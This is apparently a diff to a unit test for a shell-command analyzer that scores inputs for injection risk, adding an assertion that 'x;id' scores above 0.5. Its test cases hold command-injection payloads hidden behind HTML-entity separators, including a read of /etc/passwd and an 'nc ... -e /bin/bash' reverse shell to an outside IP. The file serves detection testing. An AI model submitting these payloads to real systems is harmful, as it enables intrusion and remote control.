@@ -41,6 +41,7 @@ describe("shell analyzer", () => {
     expect(s("a&copy /etc/passwd x")).toBeGreaterThanOrEqual(0.8);
     // The `;` that closes a reference still separates: a shell runs `127.0.0.1 &`, `gt;`, then `id`.
     expect(s("127.0.0.1&gt;id")).toBe(s("x;id"));
+    expect(s("x;id")).toBeGreaterThan(0.5);
     for (const v of ["127.0.0.1&lt;nc 203.0.113.5 4444 -e /bin/bash", "1&lt;whoami", "ab&copy;whoami", "&gt;;dash -c id"]) expect(s(v)).toBeGreaterThanOrEqual(0.8);
   });
 
